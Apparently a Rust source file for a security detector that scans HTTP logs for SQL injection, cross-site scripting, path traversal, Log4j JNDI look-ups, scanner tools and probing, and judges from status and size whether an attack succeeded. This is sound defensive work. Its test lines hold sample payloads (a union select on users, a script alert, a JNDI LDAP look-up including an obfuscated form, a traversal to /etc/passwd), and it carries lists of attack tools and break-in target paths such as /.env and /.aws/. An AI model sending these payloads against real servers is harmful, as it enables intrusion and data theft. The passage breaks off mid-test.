//! Attacks in requests: injections, traversal, Log4j look-ups, scanners and probing; and what the
//! server answered.
//!
//! **Did it work?** A log shows an answer's status and size, not its text, and a page answers 200
//! to a value it does not understand as to one that it does. So a 200 after an attack is told as
//! what it is ("answered 2xx"), and one rule holds for all classes:
//!
//! * `false` where a filter stopped every request, and, for attacks whose result is the answer
//!   (SQL injection, traversal), where every answer refused (4xx, 5xx);
//! * `true` where such an answer gave something away, which the sentence then says: a traversal to
//!   a well-known secret file was answered 2xx by a server that says 404 to others, or any of them
//!   was answered 2xx with more than twice and a kilobyte more than any ordinary answer of the
//!   same page;
//! * `null` for all else. Markup works in a reader's browser and a Log4j look-up where the line is
//!   logged: no status speaks for or against them, neither 200 nor 404.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use hashbrown::HashMap;
use serde_json::Value;

use crate::model::limits::UNTRUSTED_BYTES_MAX;
use crate::model::{
    Basis, Detection, HostKey, Outcome, Record, RecordKind, Ref, Timestamp, Untrusted, Visible,
};
use crate::threat::sketch::Counts;
use crate::threat::strings::{Place, Verdict, is_plain, judge, reads_like_sql};
use crate::threat::tally::{
    Hosts, Sample, blank, counted, grouped, in_secs, mix, mix_host, mix_text, nanos, note_sample,
    peers, ports, refs, runs, span,
};
use crate::threat::{About, Detector, Scene, Watch, Watched};

/// See the module.
pub struct Web;

/// Attacks kept in one run: 500 k at up to 300 bytes. Beyond, a sample that says so.
const HITS_MAX: usize = 500_000;

/// Requests for what is not there, kept in one run: 2 M at 56 bytes.
const MISSES_MAX: usize = 2_000_000;

/// Clients whose requests are counted one by one: 1 M at 48 bytes. Of more, an estimate.
const CLIENTS_MAX: usize = 1 << 20;

/// Pages whose ordinary answers are remembered. Of more, a sample by the page's hash, so that
/// nobody can fill the memory with pages of their own before they attack.
const PAGES_MAX: usize = 2_000_000;

/// Judged texts remembered; then the memory starts anew, which changes nothing but the time.
const JUDGED_MAX: usize = 65_536;

/// Bytes of such texts. A body in a log may have a megabyte.
const JUDGED_BYTES_MAX: usize = 32 << 20;

/// Bytes of an example that are shown.
const EXAMPLE_BYTES_MAX: usize = 160;

/// Different missing pages within a minute that are probing: a reader meets one dead link, a
/// crawler with an old index some, a dictionary a dozen in seconds.
const MISSES_MIN: usize = 12;
const MISSES_WINDOW: i64 = 60 * 1_000_000_000;

/// Different pages that only break-ins want, all refused, within a day.
const WANTED_MIN: usize = 3;

/// An answer to an injection that gives something away: this many times the largest ordinary one …
const LARGER_TIMES: u64 = 2;
/// … and this many bytes more.
const LARGER_BYTES: u64 = 1_000;

const ABOUT: About = About {
    ids: &["web.sqli", "web.xss", "web.traversal", "web.log4shell", "web.scanner", "web.probing"],
    finds: "SQL injection and cross-site scripting by libinjection in paths, names, values and \
            headers; paths that climb or name secret files; Log4j look-ups, hidden ones too; \
            scanners by their user agent; a dozen missing pages in a minute or three that only \
            break-ins want",
    misses: "bodies of requests unless the format has them, encodings beyond three rounds of \
             percent escapes (Base64, gzip), scanners that call themselves browsers and ask slowly",
    source: "libinjection (Galbreath 2012); CVE-2021-44228; CrowdSec http-probing, OWASP CRS 913",
    attack: &["T1190", "T1595.002", "T1595.003", "T1083", "T1059.007"],
};

impl Detector for Web {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn start(&self) -> Box<dyn Watch> {
        Box::new(Watching::with(Bounds {
            clients: CLIENTS_MAX,
            hits: HITS_MAX,
            misses: MISSES_MAX,
            pages: PAGES_MAX,
        }))
    }
}

/// What a request was, in the order of the slugs.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
enum Class {
    Sqli,
    Xss,
    Traversal,
    Log4Shell,
    Scanner,
}

impl Class {
    const fn slug(self) -> &'static str {
        match self {
            Self::Sqli => "web.sqli",
            Self::Xss => "web.xss",
            Self::Traversal => "web.traversal",
            Self::Log4Shell => "web.log4shell",
            Self::Scanner => "web.scanner",
        }
    }

    const fn attack(self) -> &'static [&'static str] {
        match self {
            Self::Sqli | Self::Log4Shell => &["T1190"],
            Self::Xss => &["T1190", "T1059.007"],
            Self::Traversal => &["T1190", "T1083"],
            Self::Scanner => &["T1595.002"],
        }
    }

    /// The subject of the sentence.
    const fn noun(self) -> (&'static str, &'static str) {
        match self {
            Self::Sqli => ("request with SQL injection", "requests with SQL injection"),
            Self::Xss => ("request with script injection", "requests with script injection"),
            Self::Traversal => ("request that climbs paths", "requests that climb paths"),
            Self::Log4Shell => ("request with a Log4j look-up", "requests with Log4j look-ups"),
            Self::Scanner => ("request of a scanning tool", "requests of a scanning tool"),
        }
    }
}

struct Hit {
    time: i64,
    source: u32,
    server: Option<u32>,
    port: u16,
    class: Class,
    status: Option<u32>,
    blocked: bool,
    bytes: Option<u64>,
    page: u64,
    names_secret: bool,
    times: u32,
    logged: bool,
    example: Box<str>,
    reference: Option<Ref>,
}

#[derive(Clone, Copy)]
struct Miss {
    time: i64,
    source: u32,
    server: Option<u32>,
    port: u16,
    page: u64,
    wanted: bool,
    logged: bool,
    reference: Option<Ref>,
}

/// What a text is, and for a user agent the tool it names.
type Judged = (Verdict, Option<&'static str>);

struct Watching {
    /// Those that stand in `hits` and `misses`, and no others.
    hosts: Hosts,
    /// Requests of a client, of whatever kind.
    requests: Counts<HostKey>,
    judged: HashMap<(Place, Box<str>), Judged>,
    judged_bytes: usize,
    hits: Sample<Hit>,
    misses: Sample<Miss>,
    pages: Pages,
    /// Whether any request at all was answered 404: then 200 means something.
    has_missing: bool,
}

/// How much is kept at most; a test takes less.
struct Bounds {
    clients: usize,
    hits: usize,
    misses: usize,
    pages: usize,
}

/// The largest ordinary answer of each page, or, where there are too many pages, of those whose
/// hash begins with enough zeros.
struct Pages {
    largest: HashMap<u64, u64>,
    max: usize,
    level: u32,
}

impl Pages {
    fn answered(&mut self, page: u64, bytes: u64) {
        if page.leading_zeros() < self.level {
            return;
        }
        let largest = self.largest.entry(page).or_insert(0);
        *largest = (*largest).max(bytes);
        while self.largest.len() > self.max && self.level < u64::BITS {
            self.level += 1;
            self.largest.retain(|page, _| page.leading_zeros() >= self.level);
        }
    }

    fn largest(&self, page: u64) -> Option<u64> {
        self.largest.get(&page).copied()
    }
}

/// Tools that say who they are; the second of a pair is the name shown.
const TOOLS: [&str; 58] = [
    "sqlmap",
    "nikto",
    "nmap scripting engine",
    "nmap nse",
    "masscan",
    "zgrab",
    "nuclei",
    "wpscan",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "dirsearch",
    "fuzz faster",
    "ffuf",
    "wfuzz",
    "acunetix",
    "nessus",
    "openvas",
    "qualys",
    "arachni",
    "w3af",
    "havij",
    "netsparker",
    "invicti",
    "whatweb",
    "zmeu",
    "morfeus",
    "jorgee",
    "muieblackcat",
    "l9explore",
    "l9tcpid",
    "leakix",
    "httpx -",
    "projectdiscovery",
    "jaeles",
    "skipfish",
    "vega/",
    "commix",
    "joomscan",
    "droopescan",
    "cmsmap",
    "fimap",
    "absinthe",
    "bsqlbf",
    "sqlninja",
    "grendel-scan",
    "paros/",
    "webinspect",
    "appscan",
    "burpcollaborator",
    "brutus/",
    "hydra",
    "patator",
    "xspider",
    "pangolin",
    "mozilla/5.0 sf/",
    "libredtail",
    "censysinspect",
];

static TOOL_NAMES: LazyLock<AhoCorasick> = LazyLock::new(|| {
    #[expect(clippy::expect_used, reason = "a constant list of words, built in a test")]
    AhoCorasick::builder().ascii_case_insensitive(true).build(TOOLS).expect("constant words build")
});

/// What only somebody who wants to break in asks for.
const WANTED: [&str; 47] = [
    "/.env",
    "/.git/",
    "/.svn/",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/.htaccess",
    "/.ds_store",
    "wp-config",
    "wp-login",
    "xmlrpc.php",
    "/wp-admin",
    "wlwmanifest",
    "phpmyadmin",
    "/pma/",
    "phpunit",
    "eval-stdin",
    "/boaform",
    "/hnap1",
    "/gponform",
    "/cgi-bin/",
    "/actuator",
    "/server-status",
    "/solr/admin",
    "/manager/html",
    "/jmx-console",
    "/owa/auth",
    "/autodiscover",
    "/vendor/",
    "/shell",
    "c99.php",
    "r57.php",
    "webshell",
    "/adminer",
    "/setup.php",
    "/config.json",
    "/backup",
    ".sql",
    ".bak",
    "/telescope",
    "/druid",
    "/jenkins",
    "/_ignition",
    "/phpinfo",
    ".cgi",
    "/crx/packmgr",
    "shell.php",
];

static WANTED_NAMES: LazyLock<AhoCorasick> = LazyLock::new(|| {
    #[expect(clippy::expect_used, reason = "a constant list of words, built in a test")]
    AhoCorasick::builder().ascii_case_insensitive(true).build(WANTED).expect("constant words build")
});

/// Whether a path is one that only break-ins want: those above, and hidden files of any name.
fn is_wanted(path: &str) -> bool {
    let hidden = |segment: &str| {
        segment.len() > 1 && segment.starts_with('.') && !matches!(segment, ".." | ".well-known")
    };
    WANTED_NAMES.is_match(path) || path.split('/').any(hidden)
}

/// Missing things that browsers and polite robots ask for by themselves.
const EXPECTED_MISSES: [&str; 8] = [
    "/favicon",
    "/apple-touch-icon",
    "/robots.txt",
    "/.well-known/",
    "/sitemap",
    "/ads.txt",
    "/browserconfig.xml",
    "/humans.txt",
];

/// Details of a record whose text an attacker chose, and where it stood.
const DETAILS: [(&str, Place); 9] = [
    ("referrer", Place::Header),
    ("referer", Place::Header),
    ("http_refer", Place::Header),
    ("x_forwarded_for", Place::Header),
    ("x-forwarded-for", Place::Header),
    ("extra", Place::Header),
    ("cookie", Place::Query),
    ("body", Place::Query),
    ("message", Place::Header),
];

impl Watching {
    fn with(bounds: Bounds) -> Self {
        Self {
            hosts: Hosts::default(),
            requests: Counts::new(bounds.clients, |host| mix_host(*host)),
            judged: HashMap::new(),
            judged_bytes: 0,
            hits: Sample::new(bounds.hits),
            misses: Sample::new(bounds.misses),
            pages: Pages { largest: HashMap::new(), max: bounds.pages, level: 0 },
            has_missing: false,
        }
    }

    /// The verdict on a text, and for a user agent the tool; each text is judged once.
    fn judged(&mut self, text: &str, place: Place) -> Judged {
        if matches!(place, Place::Path | Place::Query) && is_plain(text) {
            return (Verdict::default(), None);
        }
        if let Some(&known) = self.judged.get(&Text(place, text)) {
            return known;
        }
        let tool = if place == Place::Agent {
            TOOL_NAMES.find(text).and_then(|found| TOOLS.get(found.pattern().as_usize()).copied())
        } else {
            None
        };
        let verdict = (judge(text, place), tool);
        if text.len() <= UNTRUSTED_BYTES_MAX {
            if self.judged.len() >= JUDGED_MAX || self.judged_bytes >= JUDGED_BYTES_MAX {
                self.judged.clear();
                self.judged_bytes = 0;
            }
            self.judged_bytes += text.len();
            self.judged.insert((place, text.into()), verdict);
        }
        verdict
    }

    /// All that a request says, with the first text that is an attack for each class.
    fn classes(&mut self, record: &Record) -> (Vec<(Class, Box<str>)>, bool) {
        let mut classes: Vec<(Class, Box<str>)> = Vec::new();
        let mut secret = false;
        let mut add = |class: Class, text: &str| {
            if classes.iter().all(|(known, _)| *known != class) {
                classes.push((class, cut(text)));
            }
        };
        let details = DETAILS.iter().filter_map(|(key, place)| {
            let text = record.details.get(*key)?.as_str()?;
            Some((text, *place))
        });
        let fields = [
            (&record.path, Place::Path),
            (&record.query, Place::Query),
            (&record.user_agent, Place::Agent),
        ];
        let texts = fields
            .iter()
            .filter_map(|(text, place)| Some((text.as_ref()?.raw(), *place)))
            .chain(details);
        for (text, place) in texts {
            let (verdict, tool) = self.judged(text, place);
            secret |= verdict.names_secret;
            for (is, class) in [
                (verdict.sqli, Class::Sqli),
                (verdict.xss, Class::Xss),
                (verdict.traversal, Class::Traversal),
                (verdict.log4shell, Class::Log4Shell),
            ] {
                if is {
                    add(class, text);
                }
            }
            if let Some(tool) = tool {
                add(Class::Scanner, tool);
            }
        }
        (classes, secret)
    }

    fn remember_page(&mut self, page: u64, record: &Record) {
        if let (Some(200..=299), Some(bytes)) = (record.status, record.bytes) {
            self.pages.answered(page, bytes);
        }
    }

    /// Some hits or misses had to go: keeps the hosts of the others alone.
    fn forget_hosts(&mut self) {
        let Self { hosts, hits, misses, .. } = self;
        hosts.keep_only(|number| {
            for hit in hits.items_mut() {
                number(&mut hit.source);
                hit.server.as_mut().map(&mut *number);
            }
            for miss in misses.items_mut() {
                number(&mut miss.source);
                miss.server.as_mut().map(&mut *number);
            }
        });
    }

    fn miss(&mut self, record: &Record, path: &str, seen: &Request) {
        let missing = matches!(record.status, Some(400 | 403 | 404 | 405 | 410 | 444));
        let is_expected = || EXPECTED_MISSES.iter().any(|start| path.starts_with(start));
        if !missing || is_expected() || !self.misses.takes(seen.hash) {
            return;
        }
        let miss = Miss {
            time: seen.time,
            source: self.hosts.number(seen.source),
            server: seen.server.map(|server| self.hosts.number(server)),
            port: record.dst_port.unwrap_or(0),
            page: seen.page,
            wanted: is_wanted(path),
            logged: record.uid.is_none(),
            reference: record.reference(),
        };
        if self.misses.push(seen.hash, miss) {
            self.forget_hosts();
        }
    }

    fn hit(&mut self, record: &Record, class: Class, text: Box<str>, seen: &Request) {
        if !self.hits.takes(seen.hash) {
            return;
        }
        let hit = Hit {
            time: seen.time,
            source: self.hosts.number(seen.source),
            server: seen.server.map(|server| self.hosts.number(server)),
            port: record.dst_port.unwrap_or(0),
            class,
            status: record.status,
            blocked: record.outcome == Some(Outcome::Blocked),
            bytes: record.bytes,
            page: seen.page,
            names_secret: seen.names_secret,
            times: record.times.max(1),
            logged: record.uid.is_none(),
            example: text,
            reference: record.reference(),
        };
        if self.hits.push(seen.hash, hit) {
            self.forget_hosts();
        }
    }
}

/// What hits and misses have in common.
struct Request {
    time: i64,
    source: HostKey,
    server: Option<HostKey>,
    page: u64,
    hash: u64,
    names_secret: bool,
}

/// A borrowed key of the memory of judged texts.
#[derive(Hash)]
struct Text<'a>(Place, &'a str);

impl hashbrown::Equivalent<(Place, Box<str>)> for Text<'_> {
    fn equivalent(&self, key: &(Place, Box<str>)) -> bool {
        self.0 == key.0 && *self.1 == *key.1
    }
}

fn cut(text: &str) -> Box<str> {
    text[..text.floor_char_boundary(EXAMPLE_BYTES_MAX)].into()
}

impl Watch for Watching {
    fn record(&mut self, record: &Record, scene: &dyn Scene) {
        if record.kind != RecordKind::Http {
            return;
        }
        let Some(src) = record.src else { return };
        let host = |addr| scene.host(addr, record.import);
        let source = host(src);
        self.requests.add(source, record.times.max(1));
        self.has_missing |= record.status == Some(404);

        let path = record.path.as_ref().map_or("", Untrusted::raw);
        let name = record.host.as_ref().map_or(0, |host| mix_text(host.raw()));
        let page = mix(mix_text(path), name);
        let (classes, names_secret) = self.classes(record);
        let time = nanos(record.ts);
        let hash = mix(mix(mix_host(source), time as u64), page);
        let server = record.dst.map(host);
        let seen = Request { time, source, server, page, hash, names_secret };
        // What a tool asks in all innocence shows what the page ordinarily answers.
        if classes.iter().all(|(class, _)| *class == Class::Scanner) {
            self.remember_page(page, record);
        }
        if classes.is_empty() {
            self.miss(record, path, &seen);
        }
        for (class, example) in classes {
            self.hit(record, class, example, &seen);
        }
    }

    fn finish(self: Box<Self>, _now: Timestamp, _scene: &dyn Scene) -> Watched {
        let Self { hosts, requests, hits, misses, pages, has_missing, .. } = *self;
        let mut watched = Watched::default();
        hits.tell(&mut watched, "attacks in requests");
        misses.tell(&mut watched, "requests for what is not there");
        tell_of_bounds(&requests, &pages, &mut watched);
        let (mut hits, one_in) = hits.into_items();
        hits.sort_by(|a, b| {
            let key = |h: &Hit| (hosts.key(h.source), h.class, h.time, h.reference, h.page);
            key(a).cmp(&key(b)).then_with(|| a.example.cmp(&b.example))
        });
        let site = Site { hosts: &hosts, pages, has_missing };
        let mut named: BTreeSet<HostKey> = BTreeSet::new();
        for of_source in runs(&hits, |hit| (hit.source, hit.class)) {
            if is_one_odd_search(of_source) {
                continue;
            }
            let mut detection = site.attack(of_source);
            if of_source[0].class == Class::Scanner {
                named.insert(detection.subject);
            }
            note_sample(&mut detection, one_in);
            watched.detections.push(detection);
        }
        let (mut misses, one_in) = misses.into_items();
        misses.sort_by_key(|miss| (hosts.key(miss.source), miss.time, miss.page, miss.reference));
        for of_source in runs(&misses, |miss| miss.source) {
            let source = hosts.key(of_source[0].source);
            let all = u64::from(requests.get(&source)).div_ceil(one_in);
            // A tool that says its name has been told already, with what it asked.
            if named.contains(&source) {
                continue;
            }
            if let Some(mut detection) = probing(&hosts, of_source, all) {
                note_sample(&mut detection, one_in);
                watched.detections.push(detection);
            }
        }
        watched
    }
}

fn tell_of_bounds(requests: &Counts<HostKey>, pages: &Pages, watched: &mut Watched) {
    if !requests.is_exact() {
        watched.reached(format!(
            "more than {} web clients in all that was opened; how much each asked for beside what \
             is missing is an estimate",
            grouped(CLIENTS_MAX as u64)
        ));
    }
    if pages.level > 0 {
        watched.reached(format!(
            "more than {} pages in all that was opened; whether an injection was answered with \
             more than the page has was asked of one page in {}",
            grouped(PAGES_MAX as u64),
            grouped(1_u64.checked_shl(pages.level).unwrap_or(u64::MAX)),
        ));
    }
}

/// Of 421 searches chosen to mislead it, libinjection takes some for SQL (`"like" stamp`). One text
/// alone must also read like SQL, however often it was asked.
fn is_one_odd_search(hits: &[Hit]) -> bool {
    let same = hits.iter().all(|hit| hit.example == hits[0].example);
    hits[0].class == Class::Sqli && same && !reads_like_sql(&hits[0].example)
}

/// What is known of the servers' ordinary answers.
struct Site<'a> {
    hosts: &'a Hosts,
    pages: Pages,
    has_missing: bool,
}

impl Site<'_> {
    /// The attacks of one class by one source, in the order of time.
    fn attack(&self, hits: &[Hit]) -> Detection {
        let class = hits[0].class;
        let count = hits.iter().map(|hit| u64::from(hit.times)).sum();
        let (first_seen, last_seen) = span(hits.iter().map(|hit| hit.time));
        let servers = hits.iter().filter_map(|hit| hit.server);
        let (peers, peer_count) = peers(servers.map(|server| self.hosts.key(server)).collect());
        let pages: BTreeSet<u64> = hits.iter().map(|hit| hit.page).collect();
        let (one, many) = class.noun();
        let gift = self.gift(class, hits);
        let mut what = format!(
            "{} to {}{}{}{}: ",
            counted(count, one, many),
            counted(pages.len() as u64, "page", "pages"),
            in_secs(first_seen, last_seen),
            answers(hits),
            gift.map(Gift::sentence).unwrap_or_default(),
        );
        let examples: BTreeSet<&str> = hits.iter().map(|hit| hit.example.as_ref()).collect();
        what.push_str(&Visible(&hits[0].example).to_string());
        let mut detection = Detection {
            peers,
            peer_count,
            ports: ports(hits.iter().map(|hit| hit.port).filter(|&port| port > 0).collect()),
            confidence: confidence(class, count),
            basis: if hits.iter().any(|hit| hit.logged) { Basis::Log } else { Basis::Content },
            succeeded: succeeded(class, hits, gift),
            first_seen,
            last_seen,
            count,
            attack: class.attack().to_vec(),
            what,
            refs: refs(hits.iter().map(|hit| hit.reference)),
            ..blank(class.slug(), self.hosts.key(hits[0].source))
        };
        let key = if class == Class::Scanner { "tools" } else { "examples" };
        let shown = examples.into_iter().take(5).map(Value::from).collect();
        detection.details.insert(key.to_owned(), Value::Array(shown));
        let mut statuses: BTreeMap<String, u64> = BTreeMap::new();
        for hit in hits {
            let status = hit.status.map_or_else(|| "unknown".to_owned(), |s| s.to_string());
            *statuses.entry(status).or_insert(0) += u64::from(hit.times);
        }
        let statuses = statuses.into_iter().map(|(status, n)| (status, Value::from(n))).collect();
        detection.details.insert("statuses".to_owned(), Value::Object(statuses));
        detection
    }

    /// The first thing that an answer gave away.
    fn gift(&self, class: Class, hits: &[Hit]) -> Option<Gift> {
        if !matches!(class, Class::Sqli | Class::Traversal) {
            return None;
        }
        let answered = hits.iter().filter(|hit| matches!(hit.status, Some(200..=299)));
        let larger = |hit: &Hit| {
            let (bytes, ordinary) = (hit.bytes?, self.pages.largest(hit.page)?);
            let limit = ordinary.saturating_mul(LARGER_TIMES).saturating_add(LARGER_BYTES);
            (bytes > limit).then_some(Gift::Larger { bytes, ordinary })
        };
        let secret = |hit: &Hit| {
            let is_secret = class == Class::Traversal && hit.names_secret && self.has_missing;
            is_secret.then_some(Gift::Secret)
        };
        answered.filter_map(|hit| secret(hit).or_else(|| larger(hit))).next()
    }
}

/// What an answer gave away.
#[derive(Clone, Copy)]
enum Gift {
    /// More bytes than the page ordinarily has.
    Larger { bytes: u64, ordinary: u64 },
    /// A file that is nobody's business.
    Secret,
}

impl Gift {
    fn sentence(self) -> String {
        match self {
            Self::Larger { bytes, ordinary } => {
                let (bytes, ordinary) = (grouped(bytes), grouped(ordinary));
                format!(", one with {bytes} bytes where the page has {ordinary} at most")
            }
            Self::Secret => ", a secret file among them, by a server that says 404".to_owned(),
        }
    }
}

/// See the module.
fn succeeded(class: Class, hits: &[Hit], gift: Option<Gift>) -> Option<bool> {
    let refused = |hit: &Hit| hit.blocked || matches!(hit.status, Some(400..=599));
    match class {
        Class::Scanner => None,
        _ if hits.iter().all(|hit| hit.blocked) => Some(false),
        Class::Xss | Class::Log4Shell => None,
        Class::Sqli | Class::Traversal if hits.iter().all(refused) => Some(false),
        Class::Sqli | Class::Traversal => gift.map(|_| true),
    }
}

/// `, 3 answered 2xx, 9 refused`; empty where no status is known.
fn answers(hits: &[Hit]) -> String {
    let tally = |low: u32, high: u32| -> u64 {
        let within =
            hits.iter().filter(|hit| hit.status.is_some_and(|s| (low..=high).contains(&s)));
        within.map(|hit| u64::from(hit.times)).sum()
    };
    match (tally(200, 299), tally(400, 599)) {
        (0, 0) => String::new(),
        (given, 0) => format!(", {} answered 2xx", grouped(given)),
        (0, refused) => format!(", {} refused", grouped(refused)),
        (given, refused) => {
            format!(", {} answered 2xx, {} refused", grouped(given), grouped(refused))
        }
    }
}

/// What is left of chance: one odd value may be a text with quotes, three are not. A look-up has
/// no other use, a tool says its own name.
const fn confidence(class: Class, count: u64) -> f64 {
    match (class, count) {
        (Class::Log4Shell | Class::Scanner, _) => 0.97,
        (Class::Traversal, _) if count >= 3 => 0.95,
        (Class::Traversal, _) => 0.85,
        (_, 1) => 0.8,
        (_, 2) => 0.88,
        _ => 0.95,
    }
}

/// Requests of one source for what is not there, in the order of time.
fn probing(hosts: &Hosts, misses: &[Miss], requests: u64) -> Option<Detection> {
    let wanted: BTreeSet<u64> =
        misses.iter().filter(|miss| miss.wanted).map(|miss| miss.page).collect();
    let pages: BTreeSet<u64> = misses.iter().map(|miss| miss.page).collect();
    // Of somebody who otherwise reads what is there, dead links are a part.
    let mostly = misses.len() as u64 * 2 >= requests;
    let fires = wanted.len() >= WANTED_MIN || (mostly && densest(misses) >= MISSES_MIN);
    if !fires {
        return None;
    }
    let (first_seen, last_seen) = span(misses.iter().map(|miss| miss.time));
    let servers = misses.iter().filter_map(|miss| miss.server).map(|server| hosts.key(server));
    let (peers, peer_count) = peers(servers.collect());
    let secret = match wanted.len() {
        0 => String::new(),
        some => format!(", {} of them such as only break-ins want", grouped(some as u64)),
    };
    Some(Detection {
        peers,
        peer_count,
        ports: ports(misses.iter().map(|miss| miss.port).filter(|&port| port > 0).collect()),
        confidence: if wanted.len() >= WANTED_MIN { 0.9 } else { 0.75 },
        basis: if misses.iter().any(|miss| miss.logged) { Basis::Log } else { Basis::Content },
        succeeded: None,
        first_seen,
        last_seen,
        count: misses.len() as u64,
        attack: vec!["T1595.003"],
        what: format!(
            "Asked for {} that {} not there{}{secret}",
            counted(pages.len() as u64, "page", "pages"),
            if pages.len() == 1 { "is" } else { "are" },
            in_secs(first_seen, last_seen),
        ),
        refs: refs(misses.iter().map(|miss| miss.reference)),
        ..blank("web.probing", hosts.key(misses[0].source))
    })
}

/// The most different pages within one window.
fn densest(misses: &[Miss]) -> usize {
    let mut inside: HashMap<u64, u32> = HashMap::new();
    let (mut start, mut densest) = (0, 0);
    for miss in misses {
        *inside.entry(miss.page).or_insert(0) += 1;
        while miss.time.saturating_sub(misses[start].time) > MISSES_WINDOW {
            if let Some(count) = inside.get_mut(&misses[start].page) {
                *count -= 1;
                if *count == 0 {
                    inside.remove(&misses[start].page);
                }
            }
            start += 1;
        }
        densest = densest.max(inside.len());
    }
    densest
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::threat::notation::{Event, Stage, check, events};

    #[test]
    fn injections_are_told_with_what_was_answered() {
        check(
            "9 s: http 192.0.2.7 GET /item?id=1%27+or+%271%27=%271 404 90 x3",
            "web.sqli 192.0.2.7 count=3 succeeded=Some(false) basis=log statuses={\"404\":3}",
        );
        // Answered like any visit: nobody can tell.
        check(
            "9 s: http 192.0.2.9 GET /item?id=1 200 1500
             9 s: http 192.0.2.7 GET /item?id=1%27+or+%271%27=%271 200 1600",
            "web.sqli 192.0.2.7 succeeded=None",
        );
        // Answered with much more than any visit.
        check(
            "9 s: http 192.0.2.9 GET /item?id=1 200 1500
             9 s: http 192.0.2.7 GET /item?id=1+union+select+user,pass+from+users-- 200 9600",
            "web.sqli 192.0.2.7 succeeded=Some(true)",
        );
        // The tool itself showed what the page ordinarily answers.
        check(
            "1 s: http 192.0.2.7 GET /item?id=1 200 1500 sqlmap/1.8
             9 s: http 192.0.2.7 GET /item?id=1+union+select+user,pass+from+users-- 200 9600",
            "web.scanner 192.0.2.7 succeeded=None\nweb.sqli 192.0.2.7 succeeded=Some(true)",
        );
    }

    #[test]
    fn what_works_elsewhere_is_not_judged_by_the_answer() {
        for status in [200, 302, 404, 500] {
            check(
                &format!(
                    "9 s: http 192.0.2.7 GET /s?q=%3Cscript%3Ealert(1)%3C/script%3E {status} 9"
                ),
                "web.xss 192.0.2.7 succeeded=None count=1",
            );
            check(
                &format!("1 s: http 192.0.2.7 GET /?x=${{jndi:ldap://198.51.100.9/a}} {status} 9"),
                "web.log4shell 192.0.2.7 succeeded=None count=1",
            );
        }
    }

    #[test]
    fn a_secret_file_that_is_answered_by_a_server_that_says_404_was_given_away() {
        let attack = "1 s: http 192.0.2.7 GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd 200 1900\n";
        check(attack, "web.traversal 192.0.2.7 succeeded=None");
        check(
            &format!("{attack}1 s: http 192.0.2.9 GET /gone 404 90"),
            "web.traversal 192.0.2.7 succeeded=Some(true)",
        );
        check(&attack.replace(" 200 ", " 403 "), "web.traversal 192.0.2.7 succeeded=Some(false)");
    }

    #[test]
    fn look_ups_are_seen_in_any_header() {
        check(
            "1 s: http 192.0.2.7 GET / 200 90 ${${lower:j}ndi:ldap://198.51.100.9/a}",
            "web.log4shell 192.0.2.7 succeeded=None count=1",
        );
    }

    #[test]
    fn a_scanner_is_told_by_its_name_or_else_by_what_it_misses() {
        check(
            "9 s: http 192.0.2.7 GET /a{n} 404 90 sqlmap/1.8#stable x30",
            "web.scanner 192.0.2.7 count=30 tools=[\"sqlmap\"]",
        );
        check("9 s: http 192.0.2.7 GET /a{n} 404 90 x12", "web.probing 192.0.2.7 count=12");
        check("9 s: http 192.0.2.7 GET /a{n} 404 90 x11", "");
        // One dead link, asked often; many, asked slowly; or among many that live.
        check("9 s: http 192.0.2.7 GET /a 404 90 x90", "");
        check("9000 s: http 192.0.2.7 GET /a{n} 404 90 x40", "");
        check(
            "9 s: http 192.0.2.7 GET /a{n} 404 90 x20
             9 s: http 192.0.2.7 GET /b{n} 200 90 x50",
            "",
        );
        check(
            "900 s: http 192.0.2.7 GET /.env 404 90
             900 s: http 192.0.2.7 GET /.git/config 404 90
             900 s: http 192.0.2.7 GET /phpmyadmin/ 403 90",
            "web.probing 192.0.2.7 count=3",
        );
        check("9 s: http 192.0.2.7 GET /favicon.ico 404 90 x30", "");
    }

    /// What the detector says of requests in the notation, with room for little.
    fn watch_in_little_room(text: &str) -> (Vec<String>, Vec<String>) {
        let bounds = Bounds { clients: 50, hits: 500, misses: 500, pages: 64 };
        let mut watching = Box::new(Watching::with(bounds));
        for event in events(text) {
            let Event::Record(record) = event else { panic!("requests only") };
            watching.record(&record, &Stage);
        }
        assert!(watching.hosts.len() <= 2 * 1_000, "{} hosts", watching.hosts.len());
        assert!(watching.pages.largest.len() <= 64);
        let watched = watching.finish(Timestamp::default(), &Stage);
        let told = watched.problems.iter().map(|problem| problem.what.clone()).collect();
        let of = |d: &Detection| format!("{} {}", d.detector, d.subject.addr());
        (watched.detections.iter().map(of).collect(), told)
    }

    #[test]
    fn an_attacker_cannot_hide_behind_a_crowd_that_comes_first() {
        let crowd: String = (0..4_000)
            .map(|n| {
                let (a, b) = (n / 250, n % 250);
                format!("1 s: http 198.18.{a}.{b} GET /page{n} 200 90\n")
            })
            .collect();
        // One who mostly asks for what is there, one who mostly does not.
        let reader =
            "9 s: http 192.0.2.9 GET /r{n} 404 90 x20\n9 s: http 192.0.2.9 GET / 200 9 x90";
        let prober = "9 s: http 192.0.2.7 GET /x{n} 404 90 x20";
        let expected = ["web.probing 192.0.2.7".to_owned()];
        for text in [
            format!("{crowd}{reader}\n{prober}"),
            format!("{prober}\n{reader}\n{crowd}"),
            format!("{reader}\n{crowd}{prober}"),
        ] {
            let (detections, told) = watch_in_little_room(&text);
            assert_eq!(detections, expected);
            assert_eq!(told.len(), 2, "{told:?}");
        }
    }

    #[test]
    fn a_heavy_attacker_stays_among_many_light_ones_in_any_order() {
        let light: String = (0..1_200)
            .map(|n| {
                let (a, b) = (n / 250, n % 250);
                format!("1 s: http 198.18.{a}.{b} GET /?a=${{jndi:ldap://198.51.100.9/a}} 200 9\n")
            })
            .collect();
        let heavy = "90 s: http 192.0.2.7 GET /a{n}?q=1+union+select+1-- 404 9 x90";
        for text in [format!("{light}{heavy}"), format!("{heavy}\n{light}")] {
            let (detections, told) = watch_in_little_room(&text);
            assert!(detections.contains(&"web.sqli 192.0.2.7".to_owned()));
            assert!(told.iter().any(|what| what.contains("attacks in requests")), "{told:?}");
        }
    }

    #[test]
    fn ordinary_visits_raise_nothing() {
        check("9 s: http 192.0.2.7 GET /s?q=%22like%22+stamp 200 900 x9", "");
        check(
            "9 s: http 192.0.2.7 GET /s?q=it's+a+select+group&d=2026-01-01 200 900 x9
